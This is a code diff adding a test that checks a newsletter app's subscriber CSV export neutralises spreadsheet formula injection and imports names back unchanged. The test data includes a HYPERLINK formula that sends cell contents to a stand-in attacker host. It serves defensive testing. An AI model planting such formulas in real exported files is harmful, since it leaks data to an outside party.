@@ -4,7 +4,9 @@ with a real SMTP server receiving the mail."""
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import re
 from urllib.parse import urljoin
 
@@ -343,3 +345,28 @@ def test_two_cadences_each_with_an_edition_1_each_shown_and_retried_as_its_own(t
             assert "<h1>Next weekly edition</h1>" in nxt and "digest send --cadence NAME" in nxt
     finally:
         blog.close()
+
+
+def test_export_cells_a_spreadsheet_would_run_as_formulas_are_text_and_import_back_as_they_were(
+        signed_in, db, clock, tmp_path, config_path):
+    # A reader chooses their own name on the public form, and `=`, `+` and `-` may start an address:
+    # opened in a spreadsheet, such a cell would be a formula (OWASP "CSV injection").
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    subs.add(db, "=sum@example.com", clock, name=formula)
+    subs.add(db, "ann@example.com", clock, name="-1+2")
+    subs.add(db, "bob@example.com", clock, name="Bob = Robert")
+    exported = signed_in.get("/admin/subscribers/export").text
+    assert exported == run_digest(config_path, "subscribers", "export", check=True).stdout
+    cells = {row[0]: row[1] for row in csv.reader(io.StringIO(exported))}
+    assert cells["'=sum@example.com"] == "'" + formula
+    assert cells["ann@example.com"] == "'-1+2"
+    assert cells["bob@example.com"] == "Bob = Robert"  # only a cell's first character makes it a formula
+    for sub in db.exec(select(Subscriber)).all():
+        subs.erase(db, sub)
+    # the address and name columns, as a spreadsheet saves them (the import takes email[,name])
+    with open(tmp_path / "back.csv", "w", newline="") as back:
+        csv.writer(back).writerows(row[:2] for row in csv.reader(io.StringIO(exported)))
+    run_digest(config_path, "subscribers", "import", str(tmp_path / "back.csv"), check=True)
+    db.expire_all()
+    assert subs.get(db, "=sum@example.com").name == formula
+    assert subs.get(db, "ann@example.com").name == "-1+2"
